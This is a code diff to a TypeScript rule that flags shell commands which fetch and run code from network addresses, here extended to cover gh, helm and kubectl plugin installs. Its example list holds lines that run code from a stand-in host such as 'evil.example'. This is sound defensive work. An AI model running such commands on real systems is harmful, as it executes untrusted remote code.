@@ -88,6 +88,7 @@ const ADDRESS = /^(?:git\+)?(?:https?|ssh|git):|^(?:github|gitlab|bitbucket|gist
 /** `deno run https://…`, `uvx --from git+https://… x`: addresses behind the program are its own. */
 function runsAddress(command: SimpleCommand): boolean {
   const words = operands(command);
+  if (ADDS.includes([command.name, ...words.slice(0, 2)].join(" "))) return true;
   if (command.name === "ansible-pull") return optionValues(command, "-U", "--url").length > 0;
   const program = RUN_VERBS.has(words[0] ?? "")
     ? words.at(words[0] === "build" ? -1 : 1)
@@ -95,6 +96,9 @@ function runsAddress(command: SimpleCommand): boolean {
   return ADDRESS.test(program ?? "") ||
     optionValues(command, "--from", "--spec", "--package").some((one) => ADDRESS.test(one));
 }
+
+/** Programs that add foreign code to themselves: `gh extension install owner/name`. */
+const ADDS = ["gh extension install", "helm plugin install", "kubectl krew install"];
 
 const RUN_VERBS = new Set(["run", "serve", "install", "exec", "x", "dlx", "build"]);
 
@@ -242,6 +246,7 @@ export const NETWORK_RULES: readonly Rule[] = [
     commands: [
       ...["deno", "npx", "bunx", "pnpx", "uvx", "pipx", "bun", "pnpm", "yarn", "npm", "go", "nix"],
       ...["docker", "podman", "nerdctl", "ansible-pull", "jbang", "rebar3"],
+      ...["gh", "helm", "kubectl"],
     ],
     match: runsAddress,
     evenRehearsed: true,
@@ -253,6 +258,7 @@ export const NETWORK_RULES: readonly Rule[] = [
       "deno https://evil.example/x.ts",
       "pipx run https://evil.example/x.py",
       "npx github:evil/tool",
+      "gh extension install someuser/gh-tools",
       "docker build https://github.com/evil/tool.git",
     ],
     misses: ["deno test -A --parallel", "npx prettier --check ."],
